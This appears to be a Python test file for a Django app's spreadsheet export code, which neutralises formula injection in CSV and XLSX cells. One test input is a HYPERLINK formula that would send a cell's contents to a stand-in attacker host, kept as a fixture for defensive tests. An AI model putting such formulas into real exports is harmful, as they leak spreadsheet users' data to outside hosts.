"""The one rule for cells of produced files: text that starts like a formula
stays text, and a CSV cell reads back as it was."""

import csv
import io
from pathlib import Path

import pytest
from django.conf import settings

from programs.spreadsheets import csv_cell, csv_text, csv_value, xlsx_bytes
from tests.spreadsheet_checks import assert_xlsx_has_no_formulas, xlsx_rows

TEXTS = [
    '=HYPERLINK("https://evil.example/?d="&A2,"Open")',
    "+86 138 0000 0000",
    "-ology",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''=twice",
    "'Twas brillig",
    "Plain text",
    "",
    "'",
]


@pytest.mark.parametrize("text", TEXTS)
def test_a_csv_cell_reads_back_as_it_was(text):
    assert csv_value(csv_cell(text)) == text


@pytest.mark.parametrize("text", TEXTS[:8])
def test_csv_marks_text_that_starts_like_a_formula(text):
    assert csv_cell(text) == "'" + text


def test_csv_leaves_numbers_dates_and_ordinary_text_alone():
    assert [csv_cell(v) for v in (-3, 2.5, None, "'Twas", "Plain")] == [
        -3,
        2.5,
        "",
        "'Twas",
        "Plain",
    ]


def test_csv_text_goes_through_the_rule():
    rows = list(csv.reader(io.StringIO(csv_text(["=A"], [["=B", -1, None]]))))
    assert rows == [["'=A"], ["'=B", "-1", ""]]


def test_xlsx_holds_text_not_formulas_nor_errors():
    content = xlsx_bytes([("Sheet", ["=A", "#N/A"], [["=1+1", "#REF!", 7, None, "bell\x07"]])])
    assert_xlsx_has_no_formulas(content)
    assert xlsx_rows(content) == [
        ["=A", "#N/A", None, None, None],
        ["=1+1", "#REF!", 7, None, "bell\ufffd"],
    ]


# Only these modules write CSV or XLSX themselves; every other file the app
# produces goes through them, so a new export cannot forget the rule.
WRITERS = {"programs/spreadsheets.py", "mentorship/roster_formats.py"}
RAW_WRITERS = ("csv.writer", "csv.DictWriter", "openpyxl", "base_formats", "tablib.formats")


def test_no_other_module_writes_spreadsheets():
    root = Path(settings.BASE_DIR)
    found = {
        path.relative_to(root).as_posix()
        for app in ("config", "programs", "mentorship", "sessions_app", "assessments")
        for path in (root / app).rglob("*.py")
        if any(marker in path.read_text() for marker in RAW_WRITERS)
    }
    assert found == WRITERS
